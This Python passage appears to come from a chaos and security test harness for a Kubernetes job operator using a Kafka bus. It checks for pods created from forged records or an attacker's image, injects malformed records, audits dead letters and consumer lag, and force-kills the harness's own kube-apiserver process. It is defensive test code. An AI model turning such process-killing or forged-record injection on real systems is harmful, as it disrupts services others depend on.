async def _check_forged_acts(client: clients.KubeClient, planned: list[PlannedJob], requests: list[dict[str, Any]],
                             violations: dict[str, list[str]]) -> None:
    """No pod of the attacker's image or on the host network; no pod created that its job's spec does not name."""
    pods, _ = await client.list(resources.PODS, NAMESPACE)
    for pod in pods:
        spec = pod.get("spec") or {}
        if spec.get("hostNetwork") or ATTACKER_IMAGE in json.dumps(spec):
            violations["forged_acts"].append(f"pod {pod['metadata']['name']} runs what a forged record asked for")
    named: dict[str, set[str]] = {}
    for job in planned:
        if job.case.startswith("hostile"):
            continue
        names = {f"{job.name}-launcher"}
        for rtype, replica in _replica_specs(job.manifest).items():
            count = replica.get("replicas", 1) if isinstance(replica, dict) else 1
            names.update(f"{job.name}-{rtype.lower()}-{i}" for i in range(int(count if count is not None else 1)))
        named[job.name] = names
    for request in requests:
        if request.get("verb") != "create" or request.get("resource") != "pods" or request.get("code") != 201:
            continue
        pod_name = str(request.get("name") or "")
        owner = max((j for j in named if pod_name.startswith(f"{j}-")), key=len, default=None)
        if owner is not None and pod_name not in named[owner]:
            violations["forged_acts"].append(f"pod {pod_name} created, which job {owner}'s spec does not name")


async def _sim_log_index(client: clients.KubeClient) -> int:
    page = await client.request("GET", "/admin/requests", {"since": 1 << 62})
    return int(page.get("next") or 0)


async def _sim_requests(client: clients.KubeClient, since: int) -> list[dict[str, Any]]:
    page = await client.request("GET", "/admin/requests", {"since": since})
    return list(page.get("items") or [])


def _requests(stack: Any, context: str) -> list[dict[str, Any]]:
    logs = stack.audit_logs or {}
    return kube.read_audit_log(logs[context]) if context in logs else []


def _kill_apiserver(stack: Any, context: str) -> None:
    import os
    import pathlib
    import signal

    child = stack.child(f"control-plane-{context}")
    for pid in child.pids():
        try:
            cmdline = pathlib.Path(f"/proc/{pid}/cmdline").read_bytes()
        except OSError:
            continue
        if b"kube-apiserver" in cmdline.split(b"\0")[0]:
            os.kill(pid, signal.SIGKILL)
            return
    raise ChaosError(f"no kube-apiserver process under {child.name}")


PUBLISH_PATIENCE_S = 60.0
"""Seconds the run's own writes to the topic wait for a broker it restarted (on a loaded machine Tansu
may take a while to come back)."""


async def _publish_raw(kafka: Any, records: list[tuple[bytes, bytes]]) -> None:
    """Write malformed records as they are, riding out a broker the run restarted: the batch is sent
    again whole until it is taken (a record sent twice is one more dead letter of the same key)."""
    from aiokafka.errors import KafkaError

    from shared.bus.settings import client_options

    deadline = time.monotonic() + PUBLISH_PATIENCE_S
    while True:
        producer = AIOKafkaProducer(**client_options(kafka), max_request_size=4 * 1024 * 1024)
        try:
            await producer.start()
            for key, value in records:
                await producer.send_and_wait(kafka.jobs_topic, value, key=key)
            return
        except KafkaError:
            if time.monotonic() >= deadline:
                raise
        finally:
            await producer.stop()
        await asyncio.sleep(1.0)


async def _check_bus(kafka: Any, planned: list[PlannedJob], violations: dict[str, list[str]],
                     forged_keys: set[str]) -> int:
    """Dead letters each explained by an injected record, a forged one or a hostile job; no worker group behind."""
    from shared.bus.settings import client_options

    hostile = {f"/{j.kind}/{j.name}" for j in planned if j.case.startswith("hostile")}
    consumer = AIOKafkaConsumer(**client_options(kafka), group_id=None, auto_offset_reset="earliest",
                                enable_auto_commit=False)
    await consumer.start()
    dead = 0
    try:
        metadata = await consumer._client.fetch_all_metadata()
        for topic in (kafka.dlq_topic,):
            tps = [TopicPartition(topic, p) for p in sorted(metadata.partitions_for_topic(topic) or ())]
            if not tps:
                continue
            consumer.assign(tps)
            await consumer.seek_to_beginning(*tps)
            while True:
                batch = await consumer.getmany(*tps, timeout_ms=1000)
                if not any(batch.values()):
                    break
                for messages in batch.values():
                    for message in messages:
                        dead += 1
                        key = (message.key or b"").decode(errors="replace")
                        if key.startswith(GARBAGE_KEY_PREFIX) or any(key.endswith(h) for h in hostile):
                            continue
                        error = dict(message.headers or []).get("kto-error", b"").decode(errors="replace")
                        if key in forged_keys and error.startswith("NotAuthentic"):
                            continue
                        violations["dead_letters_unexplained"].append(
                            f"{key} at {message.partition}@{message.offset}: {error[:200]}")
        for group in ("kto-reconciler", "kto-status"):
            tps = [TopicPartition(kafka.jobs_topic, p)
                   for p in sorted(metadata.partitions_for_topic(kafka.jobs_topic) or ())]
            ends = await _log_ends(consumer, tps)
            lagging, past_end = await _lag(kafka, consumer, group, tps, ends)
            violations["partition_stalls"].extend(lagging)
            violations["offsets_past_log_end"].extend(past_end)
    finally:
        await consumer.stop()
    return dead


STALL_GRACE_S = 20.0
"""Seconds a group may take to commit past every record that was on the log when it was checked."""


async def _lag(kafka: Any, consumer: AIOKafkaConsumer, group: str, tps: list[TopicPartition],
               ends: dict[TopicPartition, int]) -> tuple[list[str], list[str]]:
    """Partitions whose committed offset does not reach the log end seen at the check within
    :data:`STALL_GRACE_S` (records still arrive at the end: a status write is observed, a timer
    fires; what must not happen is a record that stays unfinished); and partitions whose
    committed offset lies past the log end as it is then (an offset of a log the broker lost,
    committed into the new one: whoever reads from it next skips the new log's records below it)."""
    from shared.bus import reading

    deadline = time.monotonic() + STALL_GRACE_S
    while True:
        try:
            committed = await reading.committed_offsets(kafka, group)
            now = await _log_ends(consumer, tps)
        except Exception as exc:
            return [f"{group}: committed offsets unreadable: {exc!r}"], []
        stalls, past_end = [], []
        for tp in tps:
            done = committed.get(tp.partition)
            end = ends.get(tp, 0)
            if end > 0 and (done is None or done < end):
                stalls.append(f"{group} partition {tp.partition}: committed {done}, log end {end} "
                              f"{STALL_GRACE_S:g}s earlier")
            if done is not None and done > now.get(tp, 0):
                past_end.append(f"{group} partition {tp.partition}: committed {done}, past the log end {now.get(tp)}")
        if not (stalls or past_end) or time.monotonic() > deadline:
            return stalls, past_end
        await asyncio.sleep(1.0)


async def _log_ends(consumer: AIOKafkaConsumer, tps: list[TopicPartition]) -> dict[TopicPartition, int]:
    """Each partition's log end as a fetch reports it (its high watermark). Tansu answers
    ListOffsets with the newest produce batch's base offset plus one, which falls short of
    the end when that batch held several records (docs/bus.md)."""
    reported = await consumer.end_offsets(tps)
    consumer.assign(tps)
    for tp in tps:
        consumer.seek(tp, max(0, reported[tp] - 1))
    for _ in range(10):
        await consumer.getmany(*tps, timeout_ms=300)
        if all(consumer.highwater(tp) is not None for tp in tps):
            break
    return {tp: max(reported[tp], consumer.highwater(tp) or 0) for tp in tps}


def dumps(summary: Summary) -> str:
    return json.dumps(summary.as_dict(), indent=2)
